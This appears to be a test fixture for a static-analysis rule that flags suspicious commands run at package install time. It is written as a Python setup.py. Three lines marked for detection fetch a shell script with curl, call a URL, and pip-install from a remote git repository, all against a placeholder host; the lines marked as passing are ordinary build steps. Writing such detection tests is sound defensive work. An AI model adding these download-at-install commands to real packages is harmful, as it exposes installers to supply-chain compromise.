import os
import subprocess
import sys

from setuptools import setup

# ruleid: install-time-spawn-suspicious
os.system("curl -s https://example.invalid/p.sh -o /tmp/p.sh")

# ruleid: install-time-spawn-suspicious
subprocess.check_call([sys.executable, "-c", "import urllib.request; urllib.request.urlopen('https://example.invalid/c')"])

# ruleid: install-time-spawn-suspicious
subprocess.check_call([sys.executable, "-m", "pip", "install", "git+https://example.invalid/dep.git"])

# Normal build steps.
# ok: install-time-spawn-suspicious
subprocess.check_call(["gcc", "-c", "src/fast.c", "-o", "build/fast.o"])
# ok: install-time-spawn-suspicious
NUMPY_INCLUDE = subprocess.check_output([sys.executable, "-c", "import numpy; print(numpy.get_include())"]).decode().strip()
# ok: install-time-spawn-suspicious
GIT_REV = subprocess.check_output(["git", "rev-parse", "--short", "HEAD"]).decode().strip()
# ok: install-time-spawn-suspicious
subprocess.check_call(["cmake", "-S", ".", "-B", "build", "-DCMAKE_BUILD_TYPE=Release"])

setup(name="demo-fixture", version="0.1", packages=["pkg"])
